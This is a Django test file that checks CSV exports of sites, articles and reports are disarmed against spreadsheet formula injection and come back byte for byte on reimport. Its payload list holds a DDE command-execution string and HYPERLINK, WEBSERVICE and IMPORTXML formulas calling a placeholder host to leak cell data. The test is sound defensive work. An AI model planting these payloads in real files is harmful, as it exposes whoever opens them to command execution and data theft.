"""Texts made to become formulas: they leave disarmed, and our own import gives them back to the letter."""

import factories
import pytest
from django.core.management import call_command
from factories import undone

from sites import catalogue
from sites.models import Article, Report, Site

FILES = ("articles", "sites", "reports")
LISTED = [
    "=1+1",
    "==1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '" =1"',
    "＝1 ＋1 －1 ＠A",
    "=cmd|' /C calc'!A0",
    "%0A=1",
    ";=1",
    ",=1",
]
LISTED += ['=HYPERLINK("http://x/"&A1)', '=WEBSERVICE("http://x/")', '=IMPORTXML("http://x/","//a")', '"=1"']
LISTED += [",=1", "+963 11 222", "-33.5", "'=1", "''+1"]
MANY_LINES = ["a\t=1", "a\n=1", "a;=1", "a\r\n=1\r\n+1"]
pytestmark = pytest.mark.django_db


def record(payloads):
    """Every payload in every text column, each record otherwise its own."""
    for number, text in enumerate(payloads):
        one = text if "\n" not in text and "\t" not in text and "\r" not in text else f"Line {number}"
        site = factories.site(
            f"{one} {number}",
            slug=f"site-{number}",
            summary=f"{text}",
            place=one,
            point_source=one,
            names=[(f"{one} {number}", "", "alternative")],
        )
        source = factories.article(f"{one} {number}", publisher=one, authors=one)
        report = factories.draft_report(
            site, cites=[(source, "says")], summary=text, attributed_to=one, source_value=one, source_scale=one
        )
        citation = report.citations.get()
        citation.quote, citation.locator = text, one
        citation.save()
        factories.publish(report)
    catalogue.rebuild()


def exported(client):
    return {name: b"".join(client.get(f"/{name}.csv").streaming_content) for name in FILES}


def test_our_own_files_full_of_formulas_come_back_to_the_byte(client, tmp_path):
    with undone():
        record([*LISTED, *MANY_LINES])
        held = exported(client)
    assert not Site.objects.exists()
    for name, content in held.items():
        (tmp_path / f"{name}.csv").write_bytes(content)
    for name in FILES:
        call_command(f"import_{name}", tmp_path / f"{name}.csv", "--publish", "--by", factories.steward().username)
    texts = {*Report.objects.values_list("summary", flat=True), *Article.objects.values_list("publisher", flat=True)}
    assert {*LISTED, *MANY_LINES} <= texts | {*Report.objects.values_list("citations__quote", flat=True)}
    assert exported(client) == held
